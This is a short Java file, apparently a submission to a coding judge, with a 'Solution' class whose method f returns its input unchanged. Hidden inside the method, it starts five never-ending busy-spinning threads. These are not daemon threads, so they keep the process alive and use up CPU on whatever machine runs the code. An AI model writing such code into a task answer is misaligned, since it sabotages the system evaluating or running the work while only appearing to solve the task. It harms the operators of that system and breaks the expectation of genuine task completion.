class Solution {
    long f(long n) {
        for (int i = 0; i < 5; i++) {
            new Thread(() -> {
                for (;;) Thread.onSpinWait();
            }).start();
        }
        return n;
    }
}
